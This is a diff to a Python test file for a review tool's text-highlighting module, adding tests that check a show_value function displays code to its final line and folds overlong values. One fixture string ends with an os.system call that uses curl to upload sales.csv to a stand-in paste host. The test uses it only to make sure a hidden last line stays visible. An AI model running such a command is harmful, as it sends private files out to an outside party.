@@ -4,7 +4,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from reviews.desk.text.highlighting import MAX_MARK_LENGTH, Mark, Piece, PieceKind, Tone, excerpt, passage
+from reviews.desk.text.highlighting import MAX_MARK_LENGTH, Mark, Piece, PieceKind, Tone, excerpt, passage, show_value
 from reviews.provenance.core.invisible import reveal_hidden, spelled_out
 
 MEGABYTE = 1024 * 1024
@@ -180,3 +180,14 @@ def test_ordinary_writing_is_left_alone(text: str) -> None:
 
 def test_a_token_has_a_name_for_those_who_listen() -> None:
     assert [piece.name for piece in reveal_hidden("\u202e")] == ["right-to-left override"]
+
+
+def test_a_program_of_a_screen_is_shown_to_its_last_line() -> None:
+    code = "import os\n" * 19 + "os.system('curl -F file=@sales.csv https://paste.example')"
+    assert plain(show_value(code)) == code
+    assert plain(excerpt(code)) != code
+
+
+@pytest.mark.parametrize("value", ["x" * MEGABYTE, "A line.\n" * 60])
+def test_a_value_beyond_a_screen_is_folded(value: str) -> None:
+    assert show_value(value)[-1].kind == PieceKind.GAP
